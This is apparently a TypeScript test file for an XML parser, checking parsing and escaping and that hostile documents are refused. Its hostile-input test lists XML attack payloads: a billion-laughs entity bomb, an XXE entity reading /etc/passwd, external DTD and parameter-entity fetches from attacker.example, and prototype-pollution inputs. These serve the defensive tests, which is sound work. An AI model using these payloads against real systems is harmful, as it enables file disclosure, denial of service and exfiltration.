import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { ProviderError } from "./errors.ts";
import { child, escapeXml, findChildren, parseXml, textAt } from "./xml.ts";

describe("parseXml", () => {
  it("reads elements, attributes, text, CDATA and entities", () => {
    const source =
      '<?xml version="1.0"?><!-- hi --><a x="1 &amp; 2" y=\'z\'><b>one &lt;&#65;&#x42;</b><b/><c><![CDATA[<raw>]]></c></a>';
    const root = parseXml(source);
    assert.deepEqual(root.attributes, { x: "1 & 2", y: "z" });
    assert.deepEqual(
      findChildren(root, "b").map(({ text }) => text),
      ["one <AB", ""],
    );
    assert.equal(textAt(root, "c"), "<raw>");
    assert.equal(child(root, "b", "none"), null);
    assert.throws(() => textAt(root, "none"), ProviderError);
  });

  it("refuses what is not well-formed, a document type, and an unknown entity", () => {
    const bad = [
      "",
      "<a>",
      "<a></b>",
      "</a>",
      "<a/><b/>",
      "<a",
      '<a x="1>',
      "<!DOCTYPE a><a/>",
      "<a>&x;</a>",
      "<a>&#9999999;</a>",
      "text",
    ];
    for (const source of bad) assert.throws(() => parseXml(source), ProviderError, source);
  });

  it("refuses hostile documents without expanding, reading or overwriting anything", () => {
    const laughs = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
    ).join("");
    const hostile = [
      `<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]><a>&l9;</a>`,
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<!doctype a SYSTEM "https://attacker.example/a.dtd"><a/>',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://attacker.example/p">%p;]><a/>',
      '<?xml version="1.0"?> <!DOCTYPE a [<!ENTITY amp "x">]><a>&amp;</a>',
      "<a>&toString;</a>",
      '<a x="&constructor;"/>',
      "<__proto__><polluted>1</polluted></__proto__>",
      '<a __proto__="1"/>',
      '<a x="1" x="2"/>',
      `${"<a>".repeat(20_000)}${"</a>".repeat(20_000)}`,
    ];
    for (const source of hostile) {
      assert.throws(() => parseXml(source), ProviderError, source.slice(0, 80));
    }
    assert.equal(Object.hasOwn(Object.prototype, "polluted"), false);
  });

  it("leaves entities and tags inside CDATA as they are, and white space inside text", () => {
    const root = parseXml("<a> one <![CDATA[&amp;<b>]]> two<c/></a>");
    assert.equal(root.text, " one &amp;<b> two");
    assert.deepEqual(
      root.children.map(({ name }) => name),
      ["c"],
    );
  });

  it("gives back what was escaped", () => {
    const text = `<"&'>`;
    assert.equal(parseXml(`<a>${escapeXml(text)}</a>`).text, text);
  });
});
